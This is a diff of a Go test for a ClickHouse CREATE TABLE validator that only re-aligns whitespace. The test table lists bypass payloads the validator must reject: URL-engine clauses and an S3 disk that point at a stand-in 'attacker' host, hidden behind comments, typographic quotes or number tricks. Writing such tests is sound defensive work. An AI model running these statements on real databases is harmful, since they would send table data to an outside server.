@@ -41,11 +41,11 @@ func TestCheckCreate(t *testing.T) {
 		// The same with ClickHouse's // comments and its typographic
 		// quotes, in which an ASCII quote is text too.
 		"a // comment hides the engine": "CREATE TABLE guardian.zz (`p` String) // '\nENGINE = URL('http://attacker/', TSV) // ' ENGINE = MergeTree ORDER BY p",
-		"typographic quotes":             "CREATE TABLE guardian.zz (`p` String COMMENT \u2018'\u2019) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
-		"a typographic identifier":       "CREATE TABLE guardian.zz (\u201c'\u201d String) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
-		"a number hides a word":          "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1.5.SELECT) ENGINE = MergeTree ORDER BY p",
-		"a disk of its own":              "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk(type = s3, endpoint = 'http://attacker/b/', access_key_id = 'a', secret_access_key = 'b')",
-		"a storage policy":               "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS storage_policy = 'remote'",
+		"typographic quotes":            "CREATE TABLE guardian.zz (`p` String COMMENT \u2018'\u2019) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
+		"a typographic identifier":      "CREATE TABLE guardian.zz (\u201c'\u201d String) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
+		"a number hides a word":         "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1.5.SELECT) ENGINE = MergeTree ORDER BY p",
+		"a disk of its own":             "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk(type = s3, endpoint = 'http://attacker/b/', access_key_id = 'a', secret_access_key = 'b')",
+		"a storage policy":              "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS storage_policy = 'remote'",
 	}
 	for name, s := range bad {
 		if err := checkCreate(s); err == nil {
